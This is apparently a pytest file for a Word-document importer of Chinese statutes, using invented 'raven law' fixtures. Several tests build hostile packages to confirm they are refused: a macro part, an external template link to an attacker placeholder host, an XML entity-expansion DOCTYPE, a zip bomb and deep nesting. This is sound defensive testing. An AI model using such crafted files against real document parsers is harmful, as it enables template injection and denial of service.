"""The official docx: structure from words alone, and a door that is shut to what it should not read."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import pytest

from egret.law.importer import docx
from egret.law.importer.parsed import Unreadable

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def paragraph(text: str) -> str:
    runs = text.split("|")
    return "<w:p>" + "".join(f'<w:r><w:t xml:space="preserve">{run}</w:t></w:r>' for run in runs) + "</w:p>"


def package(body: str, extra: dict[str, bytes] | None = None, head: str = "") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(
            "word/document.xml", f'<?xml version="1.0"?>{head}<w:document {W}><w:body>{body}</w:body></w:document>'
        )
        for name, data in (extra or {}).items():
            made.writestr(name, data)
    return buffer.getvalue()


STATUTE = [
    "中华人民共和国渡鸦法",
    "（2020年1月1日某会通过　2025年6月27日某会修订）",
    "目　　录",
    "第一章　总　　则",
    "第二章　附　　则",
    "第一章　总　　则",
    "　　第一条|　为了渡鸦，制定本法。",
    "　　第二条　有下列情形之一的：",
    "　　（一）甲；",
    "　　（二）乙。",
    "　　第三人可以参加。",
    "第二章　附　　则",
    "　　第三条　本法自2026年1月1日起施行。",
]


def test_a_statute_without_its_table_of_contents() -> None:
    file = docx.read("渡鸦法_20250627.docx", package("".join(map(paragraph, STATUTE))))
    assert file.title == "中华人民共和国渡鸦法"
    assert [event.on for event in file.events] == [date(2020, 1, 1), date(2025, 6, 27)]
    assert file.dated == date(2025, 6, 27)
    assert [(a.no, a.path) for a in file.numbered] == [
        (1, ("第一章 总则",)),
        (2, ("第一章 总则",)),
        (3, ("第二章 附则",)),
    ]
    assert file.numbered[0].text == "为了渡鸦，制定本法。"
    assert [item.no for item in file.numbered[1].paragraphs[0].items] == [1, 2]
    assert file.numbered[1].paragraphs[1].text == "第三人可以参加。"


def test_an_announcement_before_the_title() -> None:
    lines = [
        "最高渡鸦法院公告", "法释〔2021〕1号", "2021年1月26日", "最高渡鸦法院关于渡鸦的解释",
        "（2020年12月7日某会通过，自2021年3月1日起施行）", "第一条　甲。", "第二条　乙。",
    ]  # fmt: skip
    file = docx.read("解释_20210126.docx", package("".join(map(paragraph, lines))))
    assert file.title == "最高渡鸦法院关于渡鸦的解释"
    assert file.document_number == "法释〔2021〕1号" or file.document_number == "法释(2021)1号"
    assert [a.no for a in file.numbered] == [1, 2]


def test_a_table_stands_in_its_place() -> None:
    cells = "".join(f"<w:tc>{paragraph(text)}</w:tc>" for text in ("条文", "罪名"))
    body = (
        paragraph("渡鸦规定")
        + paragraph("第一条　如下：")
        + f"<w:tbl><w:tr>{cells}</w:tr></w:tbl>"
        + paragraph("第二条　完。")
    )
    file = docx.read("规定.docx", package(body))
    assert file.numbered[0].lines == ["如下：", "| 条文 | 罪名 |"]


def refused(name: str, data: bytes) -> str:
    with pytest.raises(Unreadable) as caught:
        docx.read(name, data)
    return caught.value.reason


def test_macros_are_refused() -> None:
    assert "宏" in refused("a.docm", b"")
    assert "宏" in refused("a.docx", package(paragraph("x"), {"word/vbaProject.bin": b"x"}))


def test_old_doc_is_refused_with_advice() -> None:
    assert "另存为 .docx" in refused("a.doc", b"anything")
    assert "另存为 .docx" in refused("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest")


def test_external_relationships_are_refused() -> None:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="t" Target="http://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>'
    )
    assert "外部资源" in refused("a.docx", package(paragraph("x"), {"word/_rels/document.xml.rels": rels.encode()}))


def test_entities_are_refused() -> None:
    head = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'
    assert "XML" in refused("a.docx", package(paragraph("&b;"), head=head))


def test_too_many_entries_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(docx, "MAX_ENTRIES", 3)
    assert "条目过多" in refused("a.docx", package(paragraph("x"), {f"n{i}": b"" for i in range(4)}))


def test_a_bomb_is_refused() -> None:
    assert "压缩比" in refused("a.docx", package(paragraph("x"), {"word/big.bin": b"\0" * 5_000_000}))


def test_too_large_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(docx, "MAX_UNPACKED", 100)
    assert "过大" in refused("a.docx", package(paragraph("x" * 200)))


def test_deep_nesting_is_refused() -> None:
    body = "<w:sdt><w:sdtContent>" * 80 + paragraph("x") + "</w:sdtContent></w:sdt>" * 80
    assert "嵌套" in refused("a.docx", package(body))


@pytest.mark.parametrize(
    "data", [b"", b"PK", b"no zip at all", package("")[:60]], ids=["empty", "mark", "text", "torn"]
)
def test_what_is_no_package_is_refused(data: bytes) -> None:
    assert refused("a.docx", data)


def test_a_package_without_a_document_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as made:
        made.writestr("hello", "x")
    assert "document.xml" in refused("a.docx", buffer.getvalue())
